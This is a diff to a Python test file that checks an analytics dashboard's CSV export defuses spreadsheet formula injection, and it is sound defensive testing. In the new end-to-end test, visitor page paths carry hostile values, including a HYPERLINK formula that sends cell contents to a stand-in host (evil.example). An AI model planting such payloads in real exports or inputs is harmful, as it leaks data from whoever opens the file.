@@ -10,6 +10,7 @@ from __future__ import annotations
 import csv
 import io
 import re
+import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -22,6 +23,7 @@ from gateway.admin.dashboard import EXPORTABLE, PANELS
 from gateway.admin.exports import csv_response
 from gateway.storage import Storage, storage_from_settings
 from tests.admin_helpers import add_account, login
+from tests.analytics_helpers import FIREFOX
 from tests.conftest import make_settings
 from tests.servers import run_gateway
 from tests.stats_visits import day_d, write_scripted_visits
@@ -140,8 +142,52 @@ def test_every_panel_downloads_as_csv_and_each_download_is_audited(
 
 
 def test_csv_cells_are_not_run_as_formulas() -> None:
-    body = csv_response("x.csv", ["page"], [["=HYPERLINK(1)"], ["-2+3"], ["/ok"]]).body
-    assert bytes(body).decode().split("\r\n")[1:4] == ["'=HYPERLINK(1)", "'-2+3", "/ok"]
+    cells = ["=HYPERLINK(1)", "-2+3", "/a,=HYPERLINK(1)", "x;@SUM(1)", 'x; "+1', "a,\tb", "/ok"]
+    body = csv_response("x.csv", ["page", "n"], [[cell, -2] for cell in cells]).body
+    lines = bytes(body).decode().split("\r\n")
+    # Every text cell quoted, so no ";" or "," inside starts a cell; numbers bare.
+    assert lines[0] == '"page","n"'
+    assert lines[1:8] == [
+        '"\'=HYPERLINK(1)",-2',
+        '"\'-2+3",-2',
+        '"\'/a,=HYPERLINK(1)",-2',
+        '"\'x;@SUM(1)",-2',
+        '"\'x; ""+1",-2',
+        '"\'a,\tb",-2',
+        '"/ok",-2',
+    ]
+    assert list(csv.reader(io.StringIO(lines[7]))) == [["/ok", "-2"]]
+
+
+def test_a_visitors_path_with_a_formula_after_a_separator_downloads_inert(
+    demo_site: str, tmp_path: Path
+) -> None:
+    """Paths recorded by a real visit (the banner's beacon) reach the dashboard's CSV quoted."""
+    hostile = ['/a,=HYPERLINK("https://evil.example/?"&A1)', "/x;@SUM(1)", "/ok"]
+    settings = make_settings(demo_site, tmp_path, stats_min_visitors=1, site_id=SITE)
+    with run_gateway(settings) as (public, admin):
+        headers = {"user-agent": FIREFOX, "sec-fetch-site": "same-origin"}
+        with httpx.Client(base_url=public, headers=headers) as visitor:
+            token = visitor.get("/_consent/state").json()["csrf"]
+            visitor.post(
+                "/_consent/state", json={"action": "accept_all"}, headers={"x-csrf-token": token}
+            ).raise_for_status()
+            events = [{"type": "pageview", "path": path} for path in hostile]
+            assert visitor.post("/_consent/collect", json={"events": events}).status_code == 202
+        add_account(storage_from_settings(settings), "admin@example.org", "admin")
+        client, _ = login(admin, "admin@example.org")
+        deadline = time.monotonic() + 30
+        while True:  # the writer inserts within a second
+            text = client.get(f"/sites/{SITE}/export/pages.csv?period=day").text
+            if "/ok" in text or time.monotonic() > deadline:
+                break
+            time.sleep(0.1)
+    lines = text.split("\r\n")
+    assert '"\'/a,=HYPERLINK(""https://evil.example/?""&A1)",1,1' in lines
+    assert '"\'/x;@SUM(1)",1,1' in lines
+    assert '"/ok",1,1' in lines
+    rows = list(csv.reader(io.StringIO(text)))
+    assert ["'/x;@SUM(1)", "1", "1"] in rows
 
 
 def test_the_realtime_numbers_come_as_json(k1: tuple[httpx.Client, Storage]) -> None:
